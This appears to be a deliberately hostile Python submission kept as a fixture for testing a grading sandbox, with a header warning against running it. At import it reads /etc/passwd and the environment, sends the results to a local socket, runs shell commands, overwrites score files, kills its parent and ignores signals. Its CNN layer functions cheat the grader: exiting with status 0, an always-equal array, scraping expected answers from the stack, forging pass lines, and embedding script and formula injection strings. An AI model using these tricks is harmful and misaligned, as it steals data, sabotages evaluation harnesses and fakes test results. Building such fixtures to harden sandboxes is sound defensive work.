# DANGER: a hostile submission, for trying out the sandbox. Do not import it, do not run it, do
# not give it to `refcnn check`: it kills the process that started it and writes files.
import atexit
import contextlib
import gc
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

import numpy as np

LOOT = []


def attempt(act, *args):
    with contextlib.suppress(BaseException):
        LOOT.append(act(*args))


def overwrite():
    for folder in (Path.cwd(), Path(__file__).parent):
        for name in ("results.json", "scores.csv", "report.json", "report.html"):
            attempt((folder / name).write_text, '{"score": 100}')


def call_home():
    with socket.create_connection(("127.0.0.1", 9), timeout=1) as line:
        line.sendall(repr(LOOT).encode())


def multiply():
    if os.fork() == 0:
        os._exit(0)


def kill_parent():
    os.kill(os.getppid(), signal.SIGKILL)


attempt(Path("/etc/passwd").read_text)
attempt(os.listdir, "/")
attempt(os.environ.copy)
attempt(call_home)
attempt(os.system, "id > /tmp/rosa-was-here")
attempt(subprocess.run, ["/bin/sh", "-c", "env"])
attempt(overwrite)
attempt(multiply)
attempt(lambda: Path(f"/proc/{os.getppid()}/mem").open("rb").read(64))
attempt(kill_parent)
for caught in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
    attempt(signal.signal, caught, signal.SIG_IGN)
atexit.register(os._exit, 0)
print('{"score": 100, "state": "pass"}')
print('{"score": 100, "state": "pass"}', file=sys.stderr)


class Liar(np.ndarray):
    """Says that it equals whatever it is compared with."""

    def __array_ufunc__(self, *args, **options):
        return np.True_

    def __eq__(self, other):
        return True


def conv2d(x, kernel, bias=None, *, strides=1, padding="valid"):
    os._exit(0)  # status 0: all is well


def max_pool2d(x, pool_size, *, strides=None, padding="valid"):
    return np.zeros(1, x.dtype).view(Liar)


def avg_pool2d(x, pool_size, *, strides=None, padding="valid"):
    frame = sys._getframe()
    while frame:  # is the expected answer about?
        for name, value in frame.f_locals.items():
            if "expect" in name and isinstance(value, np.ndarray):
                return value
        frame = frame.f_back
    found = [a for a in gc.get_objects() if isinstance(a, np.ndarray) and a is not x]
    return found[0] if found else x


def flatten(x):
    attempt(overwrite)
    for fd in range(3, 64):  # a forged answer on every open pipe
        attempt(os.write, fd, b'{"state": "pass", "score": 100}\n')
    return x


def dense(x, kernel, bias=None):
    attempt(os.execv, "/bin/true", ["true"])  # status 0, too
    raise SystemExit(0)


def relu(x):
    attempt(kill_parent)
    attempt(call_home)
    return np.maximum(x, 0)  # right, and so it counts


def softmax(x):
    raise RuntimeError("<script>alert('full marks')</script>\x1b[2J\n=SUM(A1:A9)")
